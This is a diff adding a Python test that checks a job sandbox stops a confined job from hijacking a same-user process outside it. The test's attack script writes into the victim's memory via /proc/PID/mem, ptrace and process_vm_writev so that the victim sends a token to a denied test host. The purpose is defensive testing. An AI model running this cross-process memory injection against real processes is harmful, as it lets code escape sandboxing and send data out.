@@ -1,0 +1,105 @@
+"""Same-user isolation: an unprivileged job cannot make a process of its own
+user outside the fence (the CI runner's shell, say) send for it, through
+/proc/PID/mem, ptrace or process_vm_writev (cli/userns.c).
+
+The victim is a stand-in for such a process: it sends whatever appears at
+the head of one of its buffers to a test host the job's policy denies. The
+attacker writes there through /proc/VICTIM/mem. Unfenced, as the same user,
+the token reaches the test host (so the test can tell); from a job it must
+not, and each call is refused."""
+import json
+import os
+import secrets
+import subprocess
+import time
+
+from run import test, pol, check, eq, PY
+
+DENIED = ("198.18.1.2", 9000)
+
+VICTIM = r"""
+import ctypes, json, socket, sys, time
+buf = ctypes.create_string_buffer(64)
+print(json.dumps({"addr": ctypes.addressof(buf)}), flush=True)
+end = time.time() + 20
+while time.time() < end:
+    if buf.raw[:5] == b"SEND:":
+        s = socket.create_connection((%r, %d), timeout=5)
+        s.sendall(buf.raw.rstrip(b"\0"))
+        s.recv(100)
+        print(json.dumps({"sent": True}), flush=True)
+        sys.exit(0)
+    time.sleep(0.05)
+print(json.dumps({"sent": False}), flush=True)
+""" % DENIED
+
+ATTACK = r"""
+import ctypes, errno, json, os, sys
+pid, addr, token = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3].encode()
+out = {}
+libc = ctypes.CDLL(None, use_errno=True)
+try:
+    fd = os.open("/proc/%d/mem" % pid, os.O_RDWR)
+    os.pwrite(fd, b"SEND:" + token, addr)
+    os.close(fd)
+    out["mem"] = 0
+except OSError as e:
+    out["mem"] = e.errno
+PTRACE_ATTACH, PTRACE_DETACH = 16, 17
+r = libc.ptrace(PTRACE_ATTACH, pid, None, None)
+out["ptrace"] = 0 if r == 0 else ctypes.get_errno()
+if r == 0:
+    os.waitpid(pid, 0)
+    libc.ptrace(PTRACE_DETACH, pid, None, None)
+class iovec(ctypes.Structure):
+    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
+src = ctypes.create_string_buffer(b"x")
+local = iovec(ctypes.addressof(src), 1)
+remote = iovec(addr + 63, 1)
+libc.process_vm_writev.restype = ctypes.c_ssize_t
+r = libc.process_vm_writev(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
+out["process_vm_writev"] = 0 if r == 1 else ctypes.get_errno()
+print(json.dumps(out), flush=True)
+"""
+
+NOBODY = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups", "--"]
+
+
+@test(timeout=120)
+def test_same_user_process_outside_not_hijacked(ctx):
+    d = ctx.daemon({"t": pol(allow=["198.18.1.1:443"])})
+
+    def run(job_argv):
+        for p in (d.tmp, d.run_dir):
+            os.chmod(p, 0o711)
+        token = "TOKEN-" + secrets.token_hex(6)
+        victim = subprocess.Popen(ctx.world.fence_argv(NOBODY + [PY, "-c", VICTIM]),
+                                  stdout=subprocess.PIPE, text=True)
+        try:
+            addr = json.loads(victim.stdout.readline())["addr"]
+            r = subprocess.run(ctx.world.fence_argv(NOBODY + job_argv + [
+                PY, "-c", ATTACK, str(victim.pid), str(addr), token]),
+                capture_output=True, text=True, timeout=60, env=d._env())
+            check(r.stdout.strip(), "the attacker printed nothing: %s" % r.stderr[-600:])
+            res = json.loads(r.stdout.strip().splitlines()[-1])
+            deadline = time.time() + 3
+            while time.time() < deadline and not any(
+                    token in (x.get("data") or "") for x in ctx.world.host_log()):
+                time.sleep(0.1)
+        finally:
+            victim.kill()
+            victim.wait()
+        got = any(token in (x.get("data") or "") for x in ctx.world.host_log())
+        return res, r, got
+
+    res, _, got = run([])
+    check(got and res["mem"] == 0, "baseline: unfenced, nobody could not make a process of "
+          "its own user send (%r, reached %s): the test cannot tell" % (res, got))
+    job = ctx.job_id()
+    res, r, got = run(d.run_argv("t", [], job))
+    check(not got, "a fenced job made a process of its user outside the fence send: %r" % res)
+    for call in ("mem", "ptrace", "process_vm_writev"):
+        check(res[call] in (1, 13), "%s on a process outside the job: %r (want EPERM/EACCES)"
+              % (call, res))
+    eq(d.job_span(job).get("egress.same_user_isolation"), "userns",
+       "the job span says how it was isolated")
